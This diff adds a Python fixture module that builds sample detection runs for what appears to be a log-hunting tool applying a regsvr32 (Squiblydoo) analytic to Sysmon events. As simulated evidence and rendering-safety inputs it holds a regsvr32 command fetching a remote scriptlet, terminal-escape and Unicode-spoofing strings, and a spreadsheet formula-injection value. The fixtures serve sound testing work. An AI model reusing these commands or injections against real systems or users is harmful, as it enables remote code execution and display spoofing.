@@ -1,0 +1,388 @@
+"""Runs built by hand, one for each thing a page must show well."""
+
+from datetime import UTC, datetime
+
+from carhound.findings.run import (
+    AnalyticResult,
+    Evidence,
+    FileReport,
+    Finding,
+    HostCoverage,
+    ImplementationResult,
+    Rows,
+    Run,
+    RunInfo,
+    TwinDifference,
+    Twins,
+    WindowUsed,
+)
+from carhound.model.diagnostics import Diagnostic, Source, Span
+from carhound.model.event import Place
+from carhound.model.evidence import Damage, Remark, Skipped
+
+REGSVR32 = r"C:\Windows\System32\regsvr32.exe"
+ANALYTIC = "CAR-2019-04-002"
+MAIN, MAIN_P = "Main Pattern", "Main Pattern - pseudocode"
+NEW = "New items since last month"
+SPAWN, SPAWN_P = "Spawning child processes", "Spawning child processes - pseudocode"
+LOAD, LOAD_P = "Loading unsigned images", "Loading unsigned images - pseudocode"
+NAMES = (MAIN, MAIN_P, NEW, SPAWN, SPAWN_P, LOAD, LOAD_P)
+HOSTILE = "cmd /c \x1b[2J\x1b]0;gone\x07 [bold red]x[/] echo \u202etxt.exe\u2066 \u200bzero\nnext\tline \ud800 =1+1 日本語"
+
+INFO = RunInfo(
+    command=("hunt", "logs"),
+    version="0.1.0",
+    engine="interpreter",
+    now=datetime(2018, 12, 4, 12, 0, 0, tzinfo=UTC),
+    now_from="just after the newest matching event",
+    tz="UTC",
+    reading="published",
+)
+
+
+def time(text: str) -> datetime:
+    """2018-12-04T09:12 and so on, in UTC."""
+    return datetime.fromisoformat(text).replace(tzinfo=UTC)
+
+
+def process(number: int, **changes: object) -> Finding:
+    """A process that regsvr32 started."""
+    image = str(changes.pop("image", r"C:\Windows\System32\calc.exe"))
+    parent = str(changes.pop("parent", REGSVR32))
+    command = changes.pop("command", f'"{image}"')
+    native = {
+        "EventCode": "1",
+        "Image": image,
+        "ParentImage": parent,
+        "ParentCommandLine": "regsvr32.exe /s /u /i:http://10.0.0.5/file.sct scrobj.dll",
+        "User": r"CORP\alice",
+        "Hashes": ("MD5=0123", "SHA256=4567"),
+    }
+    car = {"image_path": image, "parent_image_path": parent, "user": r"CORP\alice"}
+    if command is not None:
+        native["CommandLine"] = car["command_line"] = str(command)
+    defaults: dict[str, object] = {
+        "id": f"{number:02d}" + "ab" * 31,
+        "analytic": ANALYTIC,
+        "implementations": (MAIN, MAIN_P, SPAWN, SPAWN_P),
+        "time": time(f"2018-12-04T09:{number:02d}:44.123"),
+        "computer": "WS-0042.corp.example",
+        "object": "process/create",
+        "provider": "Microsoft-Windows-Sysmon",
+        "event_id": "1",
+        "places": (Place("logs/ws42/Microsoft-Windows-Sysmon%4Operational.evtx", f"46301{number}"),),
+        "native": native,
+        "car": car,
+    }
+    return Finding(**{**defaults, **changes})  # type: ignore[arg-type]
+
+
+def module(number: int, **changes: object) -> Finding:
+    """A module that regsvr32 loaded."""
+    loaded = r"C:\Users\alice\AppData\Local\Temp\AllTheThingsx86.dll"
+    defaults: dict[str, object] = {
+        "id": f"{number:02d}" + "cd" * 31,
+        "analytic": ANALYTIC,
+        "implementations": (LOAD, LOAD_P),
+        "time": time(f"2018-12-04T10:{number:02d}:01"),
+        "computer": "WS-0042.corp.example",
+        "object": "module/load",
+        "provider": "Microsoft-Windows-Sysmon",
+        "event_id": "7",
+        "places": (Place("logs/ws42.zip/sysmon.json", "line 12"), Place("logs/copy.json", "line 3")),
+        "native": {
+            "Image": REGSVR32,
+            "ImageLoaded": loaded,
+            "Signed": "false",
+            "Signature": "-",
+            "SignatureStatus": "Unavailable",
+        },
+        "car": {"image_path": REGSVR32, "module_path": loaded},
+    }
+    return Finding(**{**defaults, **changes})  # type: ignore[arg-type]
+
+
+def implementation(name: str, *findings: Finding, **changes: object) -> ImplementationResult:
+    """A result holding these findings."""
+    defaults: dict[str, object] = {
+        "name": name,
+        "language": "pseudocode" if name.endswith("pseudocode") else "spl",
+        "status": "ran",
+        "eligible": 1204,
+        "matched": len(findings),
+        "findings": tuple(finding.id for finding in findings),
+    }
+    return ImplementationResult(**{**defaults, **changes})  # type: ignore[arg-type]
+
+
+def analytic(*implementations: ImplementationResult, **changes: object) -> AnalyticResult:
+    """The analytic with these results."""
+    defaults: dict[str, object] = {
+        "id": ANALYTIC,
+        "title": "Generic Regsvr32",
+        "path": "analytics/CAR-2019-04-002.yaml",
+        "sha256": "00" * 32,
+        "attack": (
+            {"technique": "T1218", "tactics": ["TA0005"], "subtechniques": ["T1218.010"], "coverage": "Low"},
+        ),
+        "d3fend": ({"iri": "d3f:ProcessLineageAnalysis", "id": "D3-PLA", "label": "Process Lineage Analysis"},),
+        "data_model_references": (("process/create/exe", True), ("process/create/image", False)),
+        "implementations": implementations,
+    }
+    return AnalyticResult(**{**defaults, **changes})  # type: ignore[arg-type]
+
+
+def host(computer: str | None, events: int, one: int, seven: int, judged: tuple[str, ...], **changes: object) -> HostCoverage:
+    """A computer of the morning of 2018-12-04."""
+    defaults: dict[str, object] = {
+        "computer": computer,
+        "first": time("2018-12-04T08:00"),
+        "last": time("2018-12-04T11:59:59.999"),
+        "events": events,
+        "sysmon_1": one,
+        "sysmon_7": seven,
+        "security_4688": 12,
+        "security_4688_with_command_line": 10,
+        "judged": tuple((ANALYTIC, name) for name in judged),
+    }
+    return HostCoverage(**{**defaults, **changes})  # type: ignore[arg-type]
+
+
+def file(path: str, shape: str | None = "evtx", events: int = 1204, **changes: object) -> FileReport:
+    """A file of evidence."""
+    defaults: dict[str, object] = {
+        "path": path,
+        "format": shape,
+        "bytes": 1_118_208,
+        "sha256": None,
+        "events": events,
+        "eligible": events // 2,
+        "duplicates": 0,
+        "damaged": (),
+        "skipped": (),
+    }
+    return FileReport(**{**defaults, **changes})  # type: ignore[arg-type]
+
+
+def run(*analytics: AnalyticResult, findings: tuple[Finding, ...] = (), **changes: object) -> Run:
+    """A complete run over one host and one file."""
+    defaults: dict[str, object] = {
+        "info": INFO,
+        "analytics": analytics,
+        "hosts": (host("WS-0042.corp.example", 1204, 120, 482, NAMES),),
+        "evidence": Evidence((file("logs/ws42/Microsoft-Windows-Sysmon%4Operational.evtx"),), ()),
+        "findings": findings,
+        "status": "complete",
+        "reasons": (),
+    }
+    return Run(**{**defaults, **changes})  # type: ignore[arg-type]
+
+
+def caret(text: str, marked: str, message: str, hint: str | None = None, code: str = "SPL-UNSUPPORTED") -> Diagnostic:
+    """An error about the word `marked` of a text on line 41 of a document."""
+    at = text.index(marked)
+    source = Source(text, "analytics/CAR-2019-04-002.yaml", 41, 6)
+    return Diagnostic(code, message, "error", Span(at, at + len(marked)), source, hint)
+
+
+HOLE = Diagnostic(
+    "CAR-2019-04-002-BASELINE-HOLE",
+    "the baseline ends 30 days before today: what was seen in the 29 days between is called new",
+    "warning",
+    Span(0, 4),
+    Source("index=x earliest=-60d@d", "analytics/CAR-2019-04-002.yaml", 61, 6),
+    "--reading corrected moves the baseline to the 30 days before the main window",
+    3,
+)
+WINDOWS_TEMP = Diagnostic(
+    "CAR-2019-04-002-WINDOWS-TEMP",
+    r"ImageLoaded!=C:\Windows\* also hides folders that every user can write to, such as C:\Windows\Temp and"
+    r" C:\Windows\Tasks",
+    "warning",
+    count=2,
+)
+ALIAS = Diagnostic(
+    "ALIAS", "ComputerName was read from Computer, where Sysmon's XML has it", "note", count=4
+)
+
+WINDOWS = (
+    WindowUsed("main", time("2018-12-03T00:00"), time("2018-12-04T12:00"), 61, 35),
+    WindowUsed("baseline", time("2018-10-05T00:00"), time("2018-11-04T00:00"), 62, 8),
+)
+
+
+def findings_run() -> Run:
+    """Findings in all patterns, a twin difference, aggregates, notes, hostile text, three kinds of host."""
+    calc, hostile = process(12), process(13, command=HOSTILE, computer="WS-\x1b[31m7")
+    renamed = process(
+        21,
+        parent=r"C:\Users\Public\Downloads\tools and more tools\myregsvr32.exe",
+        image=r"C:\Users\Public\Downloads\tools and more tools\payload.exe",
+        command="payload.exe " + "-enc " + "QQBCAEMA" * 40,
+        implementations=(MAIN_P,),
+    )
+    bare = process(22, command=None, computer=None, time=None, native={}, car={"parent_image_path": REGSVR32},
+                   provider="Microsoft-Windows-Security-Auditing", event_id="4688", implementations=(MAIN_P, SPAWN_P))
+    loaded = module(1)
+    spawned = Rows(
+        ("Computer Name", "Parent Command Line", "Image", "ImageCount"),
+        (
+            (("WS-0042.corp.example", "WS-\x1b[31m7"), ("regsvr32.exe /s /u /i:http://10.0.0.5/file.sct scrobj.dll",),
+             r"C:\Windows\System32\calc.exe", 2),
+        ),
+    )
+    images = Rows(("Computer Name", "ImageLoaded", "ImageLoadedCount"),
+                  ((None, r"C:\Users\alice\AppData\Local\Temp\AllTheThingsx86.dll", 1),))
+    result = analytic(
+        implementation(MAIN, calc, hostile),
+        implementation(MAIN_P, calc, hostile, renamed, bare, eligible=1216),
+        implementation(NEW, calc, eligible=1204, windows=WINDOWS, outside_window=1, diagnostics=(HOLE,)),
+        implementation(SPAWN, calc, hostile, table=spawned, diagnostics=(ALIAS,)),
+        implementation(SPAWN_P, calc, hostile, bare, eligible=1216),
+        implementation(LOAD, loaded, table=images, eligible=482, diagnostics=(WINDOWS_TEMP, ALIAS)),
+        implementation(LOAD_P, loaded, eligible=482, diagnostics=(WINDOWS_TEMP,)),
+        twins=(
+            Twins(MAIN, MAIN_P, False, (), (
+                TwinDifference(renamed.id, "regsvr32.exe", r"myregsvr32.exe"),
+                TwinDifference(bare.id, "EventCode=1", "4688"),
+                TwinDifference("77" * 32, 'ParentImage="*regsvr32.exe"', None),
+            )),
+            Twins(SPAWN, SPAWN_P, False, (), (TwinDifference(bare.id, "EventCode=1", "4688"),)),
+            Twins(LOAD, LOAD_P, True),
+        ),
+    )
+    return run(
+        result,
+        findings=(calc, hostile, renamed, bare, loaded),
+        hosts=(
+            host("WS-0042.corp.example", 21340, 120, 3240, NAMES),
+            host("WS-\x1b[31m7", 1204, 40, 0, (MAIN, MAIN_P, NEW, SPAWN, SPAWN_P)),
+            host("DC-01.corp.example", 90412, 0, 0, (MAIN_P, SPAWN_P), security_4688=310, security_4688_with_command_line=0),
+            host("FS-01.corp.example", 812, 0, 0, (), security_4688=0, security_4688_with_command_line=0),
+            host(None, 3, 0, 0, (), first=None, last=None, security_4688=0, security_4688_with_command_line=0),
+        ),
+        evidence=Evidence(
+            (
+                file("logs/ws42/Microsoft-Windows-Sysmon%4Operational.evtx", events=21340),
+                file("logs/ws42.zip/sysmon.json", "winlogbeat7", 92000, duplicates=2,
+                     remarks=(Remark("LOCAL-TIME", "times without a zone were read as UTC"),)),
+            ),
+            ("logs/LICENSE", "logs/picture.png"),
+        ),
+    )
+
+
+def quiet_run() -> Run:
+    """Nothing found, everything judged."""
+    return run(
+        analytic(
+            *(implementation(name, eligible=482 if "Load" in name else 120) for name in (MAIN, MAIN_P)),
+            implementation(NEW, eligible=120, windows=WINDOWS, outside_window=0, diagnostics=(HOLE,)),
+            *(implementation(name, eligible=482 if "Load" in name else 120) for name in (SPAWN, SPAWN_P, LOAD, LOAD_P)),
+            twins=(Twins(MAIN, MAIN_P, True), Twins(SPAWN, SPAWN_P, True), Twins(LOAD, LOAD_P, True)),
+        )
+    )
+
+
+def partial_run() -> Run:
+    """Implementations that could not be evaluated, damage, things left out."""
+    long = (
+        'index=__your_sysmon_data__ EventCode=1 (ParentImage="C:\\\\Windows\\\\System32\\\\regsvr32.exe" OR '
+        'ParentImage="C:\\\\Windows\\\\SysWOW64\\\\regsvr32.exe") | eval x=1 | transaction Image maxspan=5m | '
+        "stats values(ComputerName) as \"Computer Name\" by Image"
+    )
+    unsupported = caret(long, "transaction", "the command `transaction` is not supported",
+                        "the commands there are: search, where, stats, table, rename, sort, head, top, regex")
+    label = Diagnostic("LANGUAGE-UNKNOWN", 'carhound does not run "LogPoint" texts', "error",
+                       hint="SPL and pseudocode are run; the others are listed only")
+    joined = caret("日本\tx = join (a, b) where (\n  a.pid == b.ppid )", "join", "`join` is parsed but not evaluated",
+                   code="PSEUDO-UNSUPPORTED")
+    damage = tuple(Damage(f"chunk {n}", "its checksum does not match", 4096 + 65536 * n) for n in range(9))
+    reasons = (
+        "logs/nowhere: no such path",
+        "logs/broken.evtx: 9 parts could not be read",
+        "Main Pattern (spl): not evaluated",
+    )
+    return run(
+        analytic(
+            implementation(MAIN, status="not-evaluated", eligible=0, diagnostics=(unsupported,)),
+            implementation(MAIN_P, eligible=120, not_judged=("logs/a.json", "logs/b.json")),
+            implementation("implementation 3 (LogPoint)", language="LogPoint", status="not-evaluated",
+                           eligible=0, diagnostics=(label,)),
+            implementation("Joined - pseudocode", status="not-evaluated", eligible=0, diagnostics=(joined,)),
+            implementation(LOAD, eligible=0),
+        ),
+        status="partial",
+        reasons=reasons,
+        hosts=tuple(host(f"WS-{n:04d}", 1000 + n, n % 2 * 40, 0, (MAIN_P,) if n % 2 else ()) for n in range(60)),
+        evidence=Evidence(
+            (
+                file("logs/broken.evtx", damaged=damage),
+                file("logs/other.evtx", damaged=(Damage("record 463011", "cut short"),)),
+                file("logs/inner.zip", None, 0, skipped=(Skipped("deep.zip", "an archive in an archive"),
+                                                         Skipped("secret.evtx", "encrypted"))),
+                file("logs/System.evtx", "evtx", 310, eligible=0,
+                     skipped=(Skipped("", "not applicable: no process events in a System log", partial=False),)),
+            ),
+            tuple(f"logs/pictures/{n}.png" for n in range(30)),
+            ("logs/nowhere",),
+        ),
+    )
+
+
+def nothing_eligible_run() -> Run:
+    """Logs without a single event that a pattern could judge."""
+    return run(
+        analytic(implementation(MAIN, eligible=0), implementation(MAIN_P, eligible=0), implementation(LOAD, eligible=0)),
+        status="nothing-eligible",
+        reasons=("no event was eligible for any implementation",),
+        hosts=(host("FS-01", 310, 0, 0, (), security_4688=0, security_4688_with_command_line=0),),
+        evidence=Evidence((file("logs/System.evtx", events=310, eligible=0),), ()),
+    )
+
+
+def backfill_run() -> Run:
+    """One run for each day, two analytics, hashes."""
+    from dataclasses import replace
+
+    calc = process(12, days=("2018-12-04", "2018-12-05"), implementations=(NEW,))
+    last = tuple(
+        replace(window, earliest=time("2018-12-05T00:00"), latest=time("2018-12-06T00:00")) for window in WINDOWS
+    )
+    return run(
+        analytic(implementation(NEW, calc, windows=(*WINDOWS, *last), outside_window=0)),
+        analytic(implementation("implementation 1 (spl)"), id="CAR-2019-04-003", title="Squiblydoo", d3fend=()),
+        findings=(calc,),
+        info=replace(INFO, backfill=True, tz="Europe/Berlin", reading="corrected"),
+        evidence=Evidence((file("logs/a.evtx", sha256="5a" * 32), file("logs/b.evtx", sha256="a5" * 32)), ()),
+    )
+
+
+def search_run() -> Run:
+    """A search whose rows fit a table."""
+    rows = Rows(
+        ("_time", "Computer", "Image", "count", "values(User)"),
+        (
+            ("2018-12-04T09:12:44.123Z", "WS-0042", r"C:\Windows\System32\calc.exe", 2, ("alice", "bob")),
+            ("2018-12-04T09:13:00Z", "=cmd|' /C calc'!A0", HOSTILE, 11, None),
+        ),
+    )
+    return run(results=rows, hosts=(host("WS-0042", 1204, 120, 482, ()),))
+
+
+def wide_search_run() -> Run:
+    """A search whose rows are whole events."""
+    fields = {f"Field{n:02d}": f"value {n}" for n in range(18)} | {"CommandLine": HOSTILE, "Image": REGSVR32}
+    rows = Rows(tuple(fields), (tuple(fields.values()), tuple("x" if n % 2 else None for n in range(len(fields)))))
+    return run(results=rows)
+
+
+RUNS = {
+    "findings": findings_run,
+    "quiet": quiet_run,
+    "partial": partial_run,
+    "nothing-eligible": nothing_eligible_run,
+    "backfill": backfill_run,
+    "search": search_run,
+    "wide-search": wide_search_run,
+}
